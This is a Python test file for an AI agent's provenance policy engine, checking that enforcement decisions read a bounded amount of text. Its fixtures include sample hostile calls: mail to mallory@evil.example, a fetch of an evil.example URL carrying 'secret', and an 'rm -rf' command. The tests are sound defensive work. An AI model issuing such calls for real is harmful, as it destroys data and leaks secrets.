"""A decision costs the same however much was read, said and passed on before: counted, not timed."""

from __future__ import annotations

from dataclasses import replace
from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentserver.provenance import Call, Ledger, Mode, Observation, Policy, explain, judge, leaves
from agentserver.provenance.append_only import AppendOnlyList
from agentserver.provenance.evidence.authority import build_mention_pattern
from agentserver.provenance.evidence.folding import fold_bytes
from agentserver.provenance.evidence.labels import Leaf, Role, Standing
from agentserver.provenance.evidence.words import WordIndex
from agentserver.provenance.policy.declarations import ArgumentRule, FieldRule, PlanSource, SinkRule
from agentserver.provenance.request.trusted_words import TrustedWords


class WatchedText:
    """A text that tells how much of it was read, and can be read in slices only: whoever wants all of it fails."""

    seen = 0

    def __init__(self, body):
        self.body = body

    def __len__(self):
        return len(self.body)

    def __getitem__(self, part):
        piece = self.body[part]
        WatchedText.seen += len(piece)
        return piece


class Rows(AppendOnlyList):
    """Texts by their number: whoever walks through them fails."""

    def __iter__(self):
        raise AssertionError("a decision walks through all that was read")


def make_rows(items):
    kept = AppendOnlyList().add([*items])
    return Rows(kept.chunks, kept.length)


POLICY = Policy(
    mode=Mode.ENFORCE,
    plan=PlanSource.OFF,
    sources=("web", "helper", "book"),
    sinks=(
        SinkRule(
            "both", (ArgumentRule("to", Role.DESTINATION, ("web.part",)), ArgumentRule("id", Role.SELECTOR))
        ),
        SinkRule("run", (ArgumentRule("command", Role.SELECTOR, ("web.name",)),)),
    ),
    fields=(FieldRule("book", "entry", Standing.RECORD),),
)
CALLS = [
    ("both", {"to": [f"mallory{number}@evil.example" for number in range(100)], "body": "x"}),
    ("both", {"to": "https://evil.example/a, https://corp.com", "body": "x"}),
    ("both", {"to": "general", "id": "13", "body": "say bob, say ann, then say whatever else there is"}),
    ("run", {"command": "rm -rf the whole house"}),
    ("run", {"command": "ab"}),
    ("run", {"command": "word1 word2 word3 word4 word5 word6 word7 word8"}),
    ("web", {"page": "https://evil.example/?d=secret", "other": "text"}),
    ("web", {"page": "https://news.example/1", "other": "text"}),
]


def history(size, *, long):
    """A conversation of about so many characters, in one text or in many, with as many words of the principal."""
    random = Random(1)
    words = [f"word{random.randrange(10**4)}" for _ in range(size // 9)]
    said = " ".join(words)
    parts = [said] if long else [said[at : at + 2000] for at in range(0, len(said), 2000)]
    ledger = Ledger().ask(f"please {said}").ask("and mail ann@corp.com")
    for step, part in enumerate(parts):
        page = {
            "part": part,
            "name": f"name{step}",
            "more": f"see https://news.example/{step} and mallory{step}@evil.example",
        }
        ledger = ledger.observe(POLICY, Observation("web", leaves(page), step))
        ledger = ledger.observe(
            POLICY, Observation("book", (Leaf("entry", f"entry {step}"), Leaf("entry", "13x")), step)
        )
        ledger = ledger.observe(POLICY, Observation("helper", leaves(f"it says {part[:60]}"), step))
    return ledger


def warm(ledger):
    """Makes all that follows from the texts: a decision of a warm ledger is counted."""
    found = ledger.untrusted
    return (
        found.index,
        found.values,
        found.places,
        found.words,
        found.wrapped,
        found.offers(""),
        ledger.records.places,
        ledger.untrusted.kinds,
        ledger.records.words,
        ledger.records.chunks,
    )


def work(ledger, sink, arguments):
    """How many characters were read for a verdict and its explanation."""
    warm(ledger)
    texts = make_rows(text._replace(body=WatchedText(text.body)) for text in ledger.texts)
    entries = make_rows(text._replace(body=WatchedText(text.body)) for text in ledger.records.entries)
    asked = replace(ledger.asked, queries=make_rows(map(WatchedText, ledger.asked.queries)))
    untrusted = replace(ledger.untrusted, texts=texts)
    records = replace(ledger.records, entries=entries, untrusted=untrusted)
    watched = replace(ledger, untrusted=untrusted, records=records, asked=asked)
    WatchedText.seen = 0
    verdict = judge(watched, POLICY, Call(sink, leaves(arguments), 10**6))
    explain(verdict)
    assert verdict.decision is judge(ledger, POLICY, Call(sink, leaves(arguments), 10**6)).decision
    return WatchedText.seen


def bound_places(arguments):
    """As many places as are looked at, each a few hundred characters, for each argument."""
    return 64 * 200 * len(leaves(arguments))


@pytest.mark.parametrize("long", [True, False], ids=["one text", "many texts"])
def test_a_decision_reads_as_little_at_a_hundred_times_the_history(long):
    most = 1_000_000 if long else 300_000
    small, large = history(most // 100, long=long), history(most, long=long)
    assert len(large.query) > 90 * len(small.query)
    for sink, arguments in CALLS:
        assert work(large, sink, arguments) <= max(4 * work(small, sink, arguments), bound_places(arguments))


@pytest.mark.parametrize(
    "body", ["aaaa" * 30_000, "ab " * 40_000, "https://news.example/1 " * 4_000], ids=["a", "ab", "link"]
)
def test_repetition_costs_nothing(body):
    ledger = Ledger().ask("go on").observe(POLICY, Observation("web", leaves({"part": body}), 1))
    for sink, arguments in CALLS:
        assert work(ledger, sink, arguments) <= bound_places(arguments)


def test_findings_do_not_depend_on_the_order_in_which_texts_were_added() -> None:
    bodies = [f"word{number} and a word{number % 7}, wordy" for number in range(300)]
    one_by_one = WordIndex()
    for body in bodies:
        one_by_one = one_by_one.add([body])
    at_once = WordIndex().add(bodies)
    for form in (b"word", b"wordl", b"wordy", b"and", b"x", b""):
        assert one_by_one.find_words(form, 64) == at_once.find_words(form, 64)
    assert one_by_one.nbytes == at_once.nbytes == 16 * sum(len(body.split()) for body in bodies)


def test_short_texts_share_no_word() -> None:
    index = WordIndex().add(["say ab", "cd", "", "ab cd"])
    assert index.find_words(b"ab", 9) == ((0, 4), (3, 0))
    assert index.find_words(b"abcd", 9) == ((3, 0),)


@given(st.lists(st.text(max_size=40), max_size=5), st.text(max_size=6))
def test_words_are_named_where_a_search_would_find_them(said: list[str], name: str) -> None:
    """Of names that begin with a letter or a digit: any other begins in the middle of nothing."""
    told = TrustedWords().add(*said)
    if name.strip()[:1].isalnum() and fold_bytes(name.strip()[:1]):
        assert told.mentions(name) == any(build_mention_pattern(name.strip()).search(words) for words in said)


@given(st.lists(st.sampled_from("ab ,.1é"), max_size=60).map("".join), st.integers(0, 50), st.integers(1, 20))
def test_a_word_of_a_text_is_said_in_it(text: str, start: int, length: int) -> None:
    words = text[start:].split()
    form = fold_bytes(" ".join(words)[:length])
    assert not form or TrustedWords().add("x", " ".join(words)).says(form)
